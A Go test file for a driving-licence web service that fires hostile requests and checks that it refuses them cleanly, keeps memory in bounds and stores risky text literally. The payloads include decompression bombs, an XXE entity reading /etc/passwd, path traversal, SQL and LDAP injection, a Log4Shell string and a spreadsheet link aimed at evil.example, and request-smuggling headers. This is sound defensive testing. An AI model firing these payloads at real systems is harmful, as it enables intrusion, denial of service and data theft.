package main

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"net"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"edl/internal/account"
	"edl/internal/demo"
	"edl/internal/licence"
	"edl/internal/store"
)

// problem is a refusal as every client reads it.
type problem struct {
	Status int
	Code   string
	Title  string
	Say    struct{ ZH, EN string }
	Trace  string
}

// leak is what no answer may show: the inside of the program or of the machine.
var leak = regexp.MustCompile(`(?i)goroutine|panic|\.go:|sqlite|postgres|SELECT |/usr/|/tmp/|unmarshal|strconv|encoding/|interface conversion|0xc0`)

// refusal checks that an answer is a refusal that a person understands, and
// returns it.
func refusal(t *testing.T, answer *http.Response, text []byte, secrets ...string) (p problem) {
	t.Helper()
	if answer.StatusCode < 400 || answer.StatusCode > 499 {
		t.Fatalf("%d: %.300s", answer.StatusCode, text)
	}
	if kind := answer.Header.Get("Content-Type"); kind != "application/problem+json" {
		t.Errorf("it is %s: %.300s", kind, text)
	}
	if err := json.Unmarshal(text, &p); err != nil {
		t.Fatalf("%v in %.300s", err, text)
	}
	if p.Status != answer.StatusCode || p.Code == "" || p.Say.ZH == "" || p.Say.EN == "" || p.Title == "" || p.Trace == "" {
		t.Errorf("it lacks something: %.300s", text)
	}
	if len(text) > 4<<10 {
		t.Errorf("it is %d bytes long", len(text))
	}
	if found := leak.Find(text); found != nil {
		t.Errorf("it shows %q: %s", found, text)
	}
	for _, secret := range secrets {
		if strings.Contains(string(text), secret) {
			t.Errorf("it repeats %q", secret)
		}
	}
	return p
}

// sessions opens sessions of drivers who show cases, and one of a member of
// staff, before the server starts.
func (at place) sessions(t *testing.T, role account.Role, cases ...string) (staff string, drivers []string) {
	t.Helper()
	ctx := context.Background()
	p, err := at.assemble(ctx, &clock{}, benchURL)
	if err != nil {
		t.Fatal(err)
	}
	defer p.close()
	file, err := demo.Load(at.Data)
	if err != nil {
		t.Fatal(err)
	}
	add := func(s *account.Session) string {
		token, hash := account.Begin(s, p.clock.Now())
		if err := p.db.Update(ctx, func(tx *store.Tx) error { return tx.AddSession(ctx, hash, s) }); err != nil {
			t.Fatal(err)
		}
		return "edl_" + string(s.Population) + "=" + token
	}
	for _, key := range cases {
		for _, d := range file.Drivers {
			if d.Key != key {
				continue
			}
			id, err := p.register.IDOf(ctx, licence.FileNumber(d.FileNumber))
			if err != nil {
				t.Fatal(err)
			}
			drivers = append(drivers, add(&account.Session{Population: account.DriverPop, Level: account.DriverLevel, LicenceID: id, DeviceID: "test"}))
		}
	}
	if len(drivers) != len(cases) {
		t.Fatalf("%d of %d cases are in the demonstration", len(drivers), len(cases))
	}
	return add(&account.Session{Population: account.StaffPop, Roles: []account.Role{role}, StaffID: "test"}), drivers
}

// endless is a body of so many bytes that takes no memory here.
func endless(n int64) io.Reader { return io.LimitReader(repeated('['), n) }

type repeated byte

func (r repeated) Read(p []byte) (int, error) {
	if len(p) == 0 {
		return 0, nil
	}
	p[0] = byte(r)
	for n := 1; n < len(p); n *= 2 { // byte by byte the race detector watches each
		copy(p[n:], p[:n])
	}
	return len(p), nil
}

// pngOf is a PNG that claims a size and holds what is given as its pixels.
func pngOf(width, height uint32, deflated []byte) []byte {
	chunk := func(kind string, body []byte) []byte {
		b := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
		b = append(append(b, kind...), body...)
		return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
	}
	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(header, 8, 6, 0, 0, 0))...)
	return append(append(b, chunk("IDAT", deflated)...), chunk("IEND", nil)...)
}

// The bombs are made of one compressed mebibyte again and again: to compress
// hundreds takes minutes under the race detector.

// deflated is n zeros as a zlib stream (RFC 1950).
func deflated(n int) []byte {
	const part = 1 << 20
	b, sum := []byte{0x78, 0x9c}, uint32(n%65521)<<16|1 // Adler-32 of zeros
	for whole := flushed(part); n >= part; n -= part {
		b = append(b, whole...)
	}
	b = append(append(b, flushed(n)...), 3, 0) // an empty last block
	return binary.BigEndian.AppendUint32(b, sum)
}

// flushed is n zeros as deflate blocks that end at a whole byte.
func flushed(n int) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.DefaultCompression)
	w.Write(make([]byte, n))
	w.Flush()
	return b.Bytes()
}

// gzipped is so many mebibytes as members of a gzip file, one behind another.
func gzipped(mebibytes int) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	io.Copy(w, endless(1<<20))
	w.Close()
	return bytes.Repeat(b.Bytes(), mebibytes)
}

// jpegOf is a JPEG that claims another size than its own.
func jpegOf(t *testing.T, width, height uint16) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 64, 64)), nil); err != nil {
		t.Fatal(err)
	}
	file := b.Bytes()
	frame := bytes.Index(file, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(file[frame+5:], height)
	binary.BigEndian.PutUint16(file[frame+7:], width)
	return file
}

func TestHostileRequestsAreRefusedInWordsAndTheServerStaysWell(t *testing.T) {
	at := demonstrated(t)
	_, drivers := at.sessions(t, account.Registrar, "route:onfile")
	p := serve(t, at, "--demo")
	file, err := demo.Load(at.Data)
	if err != nil {
		t.Fatal(err)
	}
	said := len(p.said.String())
	driver := &browser{t: t, url: p.url, cookie: drivers[0]}
	driver.call(http.StatusOK, "GET", "/api/driver/home", nil, nil)
	before := resident(t, p.cmd.Process.Pid)
	feed := []string{"Authorization", "Bearer " + file.Feed.Token}
	const octets = "application/octet-stream"
	for _, c := range []struct {
		name, method, path, kind string
		body                     io.Reader
		code                     string // "" where any will do
		header                   []string
	}{
		{"S42 JSON 10,000 deep", "POST", "/api/driver/sms", "application/json", strings.NewReader(`{"phone":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}`), "malformed", nil},
		{"S42 JSON 900,000 deep", "POST", "/api/driver/sms", "application/json", endless(900_000), "malformed", nil},
		{"S42 30 MB of JSON", "POST", "/api/driver/sms", "application/json", endless(30 << 20), "too_large", nil},
		{"S42 30 MB of JSON that says how much it is", "POST", "/api/driver/sms", "application/json", bytes.NewReader(bytes.Repeat([]byte{'['}, 30<<20)), "too_large", nil},
		{"S42 100 MB of a photo", "POST", "/api/driver/photos", octets, endless(100 << 20), "", nil},
		{"S42 a gzip bomb as JSON", "POST", "/api/driver/sms", "application/json", bytes.NewReader(gzipped(200)), "", []string{"Content-Encoding", "gzip"}},
		{"S42 a gzip bomb as the feed", "POST", "/api/feed/licences?run=bomb", octets, bytes.NewReader(gzipped(200)), "", append(feed, "Content-Encoding", "gzip")},
		{"S42 nothing", "POST", "/api/driver/sms", "application/json", strings.NewReader(""), "malformed", nil},
		{"S42 half a member", "POST", "/api/driver/sms", "application/json", strings.NewReader(`{"phone":"19`), "malformed", nil},
		{"S21 a byte order mark", "POST", "/api/driver/sms", "application/json", strings.NewReader("\ufeff" + `{"phone":"19900000001"}`), "malformed", nil},
		{"S21 a number beyond numbers", "POST", "/api/driver/sms", "application/json", strings.NewReader(`{"phone":1e400}`), "malformed", nil},
		{"S21 not a number", "POST", "/api/driver/sms", "application/json", strings.NewReader(`{"phone":NaN}`), "malformed", nil},
		{"S40 members that are not asked for", "POST", "/api/driver/applications", "application/json", strings.NewReader(strings.Replace(applicationBody, "{", `{"status":"issued","role":"system",`, 1)), "malformed", nil},
		{"S42 another kind of content", "POST", "/api/driver/sms", "application/xml", strings.NewReader(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`), "", nil},
		{"S53 a PNG of 60,000 × 60,000", "POST", "/api/driver/photos", octets, bytes.NewReader(pngOf(60_000, 60_000, deflated(1<<20))), "photo.too_many_pixels", nil},
		{"S53 a JPEG of 60,000 × 60,000", "POST", "/api/driver/photos", octets, bytes.NewReader(jpegOf(t, 60_000, 60_000)), "photo.too_many_pixels", nil},
		{"S53 a PNG whose pixels are a bomb", "POST", "/api/driver/photos", octets, bytes.NewReader(pngOf(600, 800, deflated(300<<20))), "", nil},
		{"S53 a GIF", "POST", "/api/driver/photos", octets, strings.NewReader("GIF89a\x10\x00\x10\x00\x00\x00\x00;"), "photo.format", nil},
		{"S54 a script that begins like a PNG", "POST", "/api/driver/photos", octets, strings.NewReader("\x89PNG\r\n\x1a\n<script>alert(1)</script>"), "", nil},
		{"S54 a picture drawn by a script", "POST", "/api/driver/photos", octets, strings.NewReader(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "photo.format", nil},
		{"a PNG cut in half that says JPEG", "POST", "/api/driver/photos", "image/jpeg", bytes.NewReader(pngOf(600, 800, deflated(100))), "", nil},
		{"S57 a path out of the folder", "GET", "/api/driver/photos/..%2f..%2f..%2fetc%2fpasswd", "", nil, "not_found", nil},
		{"S57 a path with NUL", "GET", "/api/driver/photos/%00", "", nil, "not_found", nil},
		{"S46 SQL in a path", "GET", "/api/driver/applications/x'%20OR%20'1'='1", "", nil, "not_found", nil},
		{"S41 another method in disguise", "POST", "/api/driver/devices/x", "application/json", strings.NewReader("{}"), "", []string{"X-HTTP-Method-Override", "DELETE"}},
		{"no such address", "POST", "/api/driver/nothing", "application/json", strings.NewReader("{}"), "no_route", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			began := time.Now()
			answer, text, err := driver.send(c.method, c.path, c.kind, c.body, c.header...)
			if err != nil {
				t.Fatal(err)
			}
			got := refusal(t, answer, text, file.Drivers[0].Number, "etc/passwd", "alert(1)")
			if c.code != "" && got.Code != c.code {
				t.Errorf("it is called %s", got.Code)
			}
			t.Logf("%d %s in %v: %s", got.Status, got.Code, time.Since(began).Round(time.Millisecond), got.Say.EN)
		})
	}
	for _, c := range []struct{ name, header string }{
		{"S41 a header of 1 MB", "X-Long: " + strings.Repeat("x", 1<<20) + "\r\n"},
		{"S41 10,000 headers", strings.Repeat("X-Many: 1\r\n", 10_000)},
		{"S41 two lengths", "Content-Length: 5\r\nContent-Length: 6\r\n"},
		{"S41 an encoding in disguise", "Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n"},
		{"S41 a header with a line break in it", "X-Bad\r\n : 1\r\n"},
		{"S41 a second host", "Host: evil.example\r\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if status := rawStatus(t, p.url, c.header); status < 400 || status > 501 {
				t.Errorf("%d", status)
			}
		})
	}
	for _, path := range []string{"/healthz", "/readyz", "/api/driver/home", "/driver/"} {
		if answer, _, err := driver.send("GET", path, "", nil); err != nil || answer.StatusCode != http.StatusOK {
			t.Errorf("%s afterwards: %v %v", path, answer, err)
		}
	}
	time.Sleep(500 * time.Millisecond)
	after := resident(t, p.cmd.Process.Pid)
	t.Logf("%d MB before, %d MB after", before>>20, after>>20)
	if after > before+50<<20 {
		t.Errorf("it took %d MB", (after-before)>>20)
	}
	// The feed's own limit is 32 MB; it takes memory for them, but has a secret.
	answer, text, err := driver.send("POST", "/api/feed/licences?run=big", octets, endless(40<<20), feed...)
	if err != nil {
		t.Fatal(err)
	}
	if got := refusal(t, answer, text); got.Code != "too_large" {
		t.Errorf("40 MB of the feed: %s", got.Code)
	}
	var log strings.Builder
	for line := range strings.Lines(p.said.String()[said:]) {
		if strings.HasPrefix(line, "time=") { // not what a demonstration shows a newcomer
			log.WriteString(line)
		}
	}
	if found := regexp.MustCompile(`goroutine \d|panic|alert\(1\)|etc/passwd|` + file.Drivers[0].Number).FindString(log.String()); found != "" {
		t.Errorf("the log shows %q:\n%s", found, log.String())
	}
}

// rawStatus sends a POST with headers as they are and returns the status.
func rawStatus(t *testing.T, url, header string) int {
	t.Helper()
	address := strings.TrimPrefix(url, "http://")
	conn, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	go io.WriteString(conn, "POST /api/driver/sms HTTP/1.1\r\nHost: "+address+"\r\nContent-Type: application/json\r\n"+header+"\r\n{\"a\":1}")
	answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	text, _ := io.ReadAll(answer.Body)
	if found := leak.Find(text); found != nil {
		t.Errorf("it shows %q: %s", found, text)
	}
	return answer.StatusCode
}

// A file is taken for what it is, whatever it says of itself.
func TestAPNGThatSaysJPEGIsReadAsAPNG(t *testing.T) {
	at := demonstrated(t)
	_, drivers := at.sessions(t, account.Registrar, "route:onfile")
	p := serve(t, at, "--demo")
	driver := &browser{t: t, url: p.url, cookie: drivers[0]}
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 600, 800))); err != nil {
		t.Fatal(err)
	}
	for _, kind := range []string{"image/jpeg", "application/octet-stream", ""} {
		answer, text, err := driver.send("POST", "/api/driver/photos", kind, bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		var out struct{ Width, Height int }
		if err := json.Unmarshal(text, &out); err != nil || answer.StatusCode != http.StatusCreated || out.Width != 600 || out.Height != 800 {
			t.Errorf("as %q: %d %.300s", kind, answer.StatusCode, text)
		}
	}
}

// hostileTexts are stored as they are and never understood.
var hostileTexts = []string{
	`Robert'); DROP TABLE licence;--`, `' OR '1'='1`, `{{.}}{{printf "%s" .}}`, `${jndi:ldap://evil.example/a}`, `*)(uid=*))(|(uid=*`,
	`<script>alert(1)</script><img src=x onerror=alert(1)>`, `=HYPERLINK("http://evil.example","x")`, `%0d%0aSet-Cookie: a=b`, `../../etc/passwd`,
	`𠮷龘·`, `ﷺ مرحبا`, `%s%n%x`, `\u0000\x00`, "第一行\n第二行",
}

func TestS46TextsOfEveryKindAreStoredLiterally(t *testing.T) {
	at := demonstrated(t)
	_, drivers := at.sessions(t, account.Registrar, "route:onfile")
	p := serve(t, at, "--demo")
	driver := &browser{t: t, url: p.url, cookie: drivers[0]}
	for _, text := range hostileTexts {
		driver.call(http.StatusCreated, "POST", "/api/driver/feedback", map[string]string{"text": text, "page": "#/<b>"}, nil)
	}
	var list struct {
		Feedback []struct{ Text, Page string }
	}
	driver.call(http.StatusOK, "GET", "/api/driver/feedback", nil, &list)
	got := map[string]bool{}
	for _, f := range list.Feedback {
		got[f.Text] = f.Page == "#/<b>"
	}
	for _, text := range hostileTexts {
		if !got[text] {
			t.Errorf("%q came back otherwise", text)
		}
	}
	if answer, _, err := driver.send("GET", "/api/driver/feedback", "", nil); err != nil || answer.Header.Get("X-Content-Type-Options") != "nosniff" || answer.Header.Get("Content-Type") != "application/json" {
		t.Errorf("a browser might run it: %v %v", answer.Header, err)
	}
	for line := range strings.Lines(p.said.String()) {
		if strings.Contains(line, "evil") || strings.Contains(line, "alert(1)") {
			t.Errorf("the log repeats it: %s", line)
		}
	}
}

func TestNamesOfEveryKindInTheFeed(t *testing.T) {
	at := demonstrated(t)
	staff, _ := at.sessions(t, account.Registrar)
	p := serve(t, at, "--demo")
	file, err := demo.Load(at.Data)
	if err != nil {
		t.Fatal(err)
	}
	feed := &browser{t: t, url: p.url}
	registrar := &browser{t: t, url: p.url, cookie: staff}
	for i, c := range []struct{ name, code string }{
		{"𠮷永", ""}, {"龘示例", ""}, {"艾尼瓦尔·示例", ""}, {"示例㐀", ""},
		{"林\u200b知夏", "identity.name_invisible"}, {"林\u202e知夏", "identity.name_invisible"}, {"林\u0000知夏", "identity.name_invisible"},
		{"林知夏\r\nSet-Cookie: a=b", "identity.name_invisible"}, {"Robert'); DROP TABLE licence;--", "identity.name_character"}, {"<img src=x onerror=alert(1)>", "identity.name_character"},
	} {
		t.Run(fmt.Sprintf("%q", c.name), func(t *testing.T) {
			number := fmt.Sprintf("9999%08d", i)
			l := crowd(i+1, false)[i]
			line := map[string]string{
				"file_number": number, "document_type": "A", "number": string(l.Document.Number), "name": c.name, "classes": "C1",
				"first_issue": l.FirstIssue.String(), "valid_from": l.ValidFrom.String(), "valid_to": l.ValidTo.String(), "status": "A", "points": "0", "authority": "示A",
				"address": l.Address,
			}
			body, err := json.Marshal(line)
			if err != nil {
				t.Fatal(err)
			}
			answer, text, err := feed.send("POST", fmt.Sprintf("/api/feed/licences?run=names-%d", i), "application/octet-stream", bytes.NewReader(body), "Authorization", "Bearer "+file.Feed.Token)
			if err != nil || answer.StatusCode != http.StatusOK {
				t.Fatalf("%v: %s", err, text)
			}
			var out struct {
				Applied int
				Refused []struct{ Field, Code string }
			}
			if err := json.Unmarshal(text, &out); err != nil {
				t.Fatal(err)
			}
			var refused string
			if len(out.Refused) > 0 && out.Refused[0].Field == "name" {
				refused = out.Refused[0].Code
			}
			if refused != c.code || len(out.Refused) > 1 || out.Applied+len(out.Refused) != 1 {
				t.Fatalf("applied %d, refused %+v", out.Applied, out.Refused)
			}
			if c.code != "" {
				return
			}
			var found struct{ Matches []struct{ Name string } }
			registrar.call(http.StatusOK, "POST", "/api/staff/register/search", map[string]string{"by": "file", "value": number, "reason": "核对姓名"}, &found)
			if len(found.Matches) != 1 || found.Matches[0].Name != c.name {
				t.Errorf("it came back as %+v", found.Matches)
			}
		})
	}
}
